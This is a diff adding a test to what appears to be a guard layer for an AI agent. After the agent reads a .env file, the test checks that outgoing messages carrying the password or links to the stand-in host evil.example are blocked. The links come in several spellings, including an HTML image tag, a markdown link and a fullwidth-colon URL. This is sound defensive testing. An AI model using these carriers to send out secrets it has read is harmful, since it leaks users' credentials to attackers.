@@ -331,6 +331,17 @@ def test_canary_encoded_whole_is_found_past_padding_and_in_dump_spellings(make_r
     assert decide(rt, ctx, "bash", command=f"echo '{text}' > out.txt") is Action.DENY
 
 
+def test_after_a_credential_read_no_address_of_any_spelling_leaves(make_runtime: Any) -> None:
+    rt = make_runtime()
+    ctx = rt.context("dotenv")
+    rt.hooks.after_tool_call(ToolCall("read_file", {"path": ".env"}), ToolResult("DB_PASSWORD=hunter2"), ctx)
+    for carrier in ("details at evil.example/c?p=hunter2", "www.evil.example/x", "//evil.example/x",
+                    "ftp://evil.example/hunter2", "<img src=//evil.example/p?hunter2>", "[x](//evil.example/h)",
+                    "https\uff1a//evil.example/x"):
+        assert rt.hooks.message_sending(Message("assistant", carrier), ctx).action is Action.DENY, carrier
+    assert rt.hooks.message_sending(Message("assistant", "I saved it to notes.md."), ctx).action is Action.ALLOW
+
+
 def test_a_sub_agent_starts_where_its_parent_stands(make_runtime: Any) -> None:
     rt = make_runtime()
     parent = rt.context("p1")
